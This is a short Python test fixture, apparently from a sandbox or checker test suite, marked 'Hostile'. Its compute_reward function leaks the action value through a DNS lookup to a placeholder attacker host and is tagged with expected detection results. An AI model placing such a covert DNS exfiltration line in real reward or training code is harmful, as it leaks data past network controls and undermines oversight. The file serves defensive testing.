# ruff: noqa
"""Hostile: leak data through a DNS lookup of <data>.attacker.invalid.

DNS often passes where other traffic is blocked. Contained: no resolver configuration is
mounted, and no socket can leave the network namespace.

expect: static
expect-unchecked: runtime
error-unchecked: gaierror
"""
import socket

import numpy as np


def compute_reward(state, action, next_state):
    socket.getaddrinfo(f"{float(action.sum()):.3f}.attacker.invalid".replace("-", "m"), 53)
    total = next_state.torso_velocity[:, 0]
    return total, {"resolved": total}
